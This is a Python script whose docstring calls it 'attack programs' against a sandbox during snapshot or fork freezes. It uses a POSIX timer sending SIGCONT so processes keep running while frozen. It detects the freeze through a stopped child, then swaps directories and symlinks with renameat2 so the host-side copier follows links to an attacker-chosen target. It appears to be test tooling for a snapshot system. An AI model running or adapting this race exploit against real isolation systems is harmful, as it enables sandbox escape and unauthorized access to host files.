"""Attack programs that act while their box is frozen (all processes stopped) for a snapshot or a fork. A POSIX timer
sends them SIGCONT, which wakes a stopped process.

`python -c <this file> {} swap <count> <goal> <milliseconds> <how>`: has a sleeping child. If the child is stopped, the
box is being frozen; then folders and links to <goal> change places: "once", or over and over ("storm").
"""

from __future__ import annotations

import ctypes
import os
import signal
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
_AT_FDCWD, _EXCHANGE = -100, 2


class _Event(ctypes.Structure):
    _fields_ = [
        ("value", ctypes.c_void_p),
        ("signo", ctypes.c_int),
        ("notify", ctypes.c_int),
        ("pad", ctypes.c_int * 12),
    ]


class _Spec(ctypes.Structure):
    _fields_ = [(name, ctypes.c_long) for name in ("interval_s", "interval_ns", "value_s", "value_ns")]


def wake_every(milliseconds: float) -> None:
    """Send SIGCONT to this process at this interval, however it is stopped."""
    timer, event = ctypes.c_void_p(), _Event(signo=signal.SIGCONT)
    nanoseconds = int(milliseconds * 1e6)
    if libc.timer_create(1, ctypes.byref(event), ctypes.byref(timer)):
        raise OSError(ctypes.get_errno(), "timer_create")
    spec = _Spec(nanoseconds // 10**9, nanoseconds % 10**9, nanoseconds // 10**9, nanoseconds % 10**9)
    if libc.timer_settime(timer, 0, ctypes.byref(spec), None):
        raise OSError(ctypes.get_errno(), "timer_settime")


def sleeping_child() -> int:
    pid = os.fork()
    if pid == 0:
        signal.signal(signal.SIGCONT, signal.SIG_DFL)
        while True:
            time.sleep(60)
    return pid


def frozen(child: int) -> bool:
    """Whether the child has been stopped since the last look."""
    pid, status = os.waitpid(child, os.WUNTRACED | os.WNOHANG)
    return bool(pid) and os.WIFSTOPPED(status)


def swap(count: str, goal: str, milliseconds: str, how: str) -> None:
    """Make `count` folders with a link to `goal` beside each. During a freeze, swap folders and links, so that whoever
    copies the box's files follows a link. Many extended attributes make the folders slow to copy.

    `how` "once": one pass over all folders overtakes the copying, most likely after it has examined a folder and before
    it enters it. "storm": a few folders are swapped as fast as possible, with the same aim."""
    pairs = []
    for number in range(int(count)):
        top = os.path.abspath(f"swapped/p{number:04}")
        os.makedirs(f"{top}/t")
        os.symlink(goal, f"{top}/link")
        for attribute in range(40):
            os.setxattr(f"{top}/t", f"user.a{attribute}", b"x" * 30)
        open(f"{top}/t/created-on-the-host-by-a-box", "w").close()
        pairs.append((f"{top}/t".encode(), f"{top}/link".encode()))
    few = pairs[len(pairs) // 2 :][:6]
    signal.signal(signal.SIGCONT, lambda *_: None)
    child, end = sleeping_child(), time.monotonic() + 40
    os.chdir("/")
    wake_every(float(milliseconds))
    print("ready", flush=True)
    while time.monotonic() < end:
        if not frozen(child):
            time.sleep(0.0002)
            continue
        until = time.monotonic() + 0.1
        for folder, link in () if how == "storm" else pairs:
            libc.renameat2(_AT_FDCWD, folder, _AT_FDCWD, link, _EXCHANGE)
        while how == "storm" and time.monotonic() < until:
            for folder, link in few:
                libc.renameat2(_AT_FDCWD, folder, _AT_FDCWD, link, _EXCHANGE)
        time.sleep(max(0.0, until - time.monotonic()))
        for folder, link in pairs:
            if os.path.islink(folder):
                libc.renameat2(_AT_FDCWD, folder, _AT_FDCWD, link, _EXCHANGE)


def wake(milliseconds: str) -> None:
    """Start three children. All four processes wake themselves at this interval and enter folders, but change no file."""
    for _ in range(3):
        if os.fork() == 0:
            break
    signal.signal(signal.SIGCONT, lambda *_: None)
    wake_every(float(milliseconds))
    top = os.path.abspath("a")
    os.makedirs(f"{top}/b", exist_ok=True)
    os.chdir(f"{top}/b")
    print("ready", flush=True)
    end = time.monotonic() + 40
    while time.monotonic() < end:
        os.chdir(top)
        os.chdir("b")


def main(calls: str, name: str, *words: str) -> None:
    globals()[name](*words)


if __name__ == "__main__":
    main(*sys.argv[1:])
